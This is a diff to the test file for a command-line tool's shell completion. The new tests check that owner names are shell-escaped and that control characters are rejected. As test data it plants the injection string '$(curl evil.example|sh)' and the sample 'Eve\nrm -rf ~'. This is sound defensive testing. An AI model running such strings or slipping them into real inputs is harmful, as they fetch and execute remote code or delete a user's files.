@@ -29,7 +29,7 @@ def test_completes_item_ids_phases_roles_and_people(tmp_path: Path) -> None:
     assert complete(root / "docs" / "sub", "mlcycle done fr") == ["framing"]  # walks up
     assert complete(root, "mlcycle reopen ") == ["frame", "data", "model"]
     assert complete(root, "mlcycle team add ") == ["pm", "ds"]
-    assert complete(root, "mlcycle set problem --owner ") == ["Ana Lima", "Bo Li"]
+    assert complete(root, "mlcycle set problem --owner ") == ["Ana\\ Lima", "Bo\\ Li"]
     assert complete(root, "mlcycle set problem d") == ["doing", "done"]
     assert complete(root, "mlcycle sta") == ["status", "start"]
 
@@ -48,3 +48,27 @@ def test_check_does_not_import_completion(tmp_path: Path) -> None:
     # ours (the project loader behind the candidates) only when the shell asks.
     assert "mlcycle.commands.completion" not in imported
     assert "mlcycle.write.yamledit" not in imported
+
+
+def test_people_are_offered_as_one_shell_word_and_never_as_two_lines(tmp_path: Path) -> None:
+    root = tiny_project(tmp_path)
+    project = root / "mlcycle.yaml"
+    text = project.read_text(encoding="utf-8")
+    assert "Bo Li" in text
+    # A legal name that is shell code: bash must insert it as one quoted word.
+    project.write_text(text.replace("Bo Li", '"$(curl evil.example|sh)"', 1), encoding="utf-8")
+    got = complete(root, "mlcycle set problem --owner ")
+    assert got == ["\\$\\(curl\\ evil.example\\|sh\\)", "Ana\\ Lima"]
+    assert complete(root, "mlcycle set problem --owner An") == ["Ana\\ Lima"]
+    # What bash makes of the inserted word: the name itself, one argument.
+    import shlex
+
+    assert shlex.split(got[0]) == ["$(curl evil.example|sh)"]
+
+
+def test_a_candidate_never_holds_a_control_character() -> None:
+    from mlcycle.commands import completion
+
+    assert completion._CONTROL.search("Eve\nrm -rf ~")
+    assert completion._CONTROL.search("a\x1b[31m")
+    assert not completion._CONTROL.search("Zoë 李")
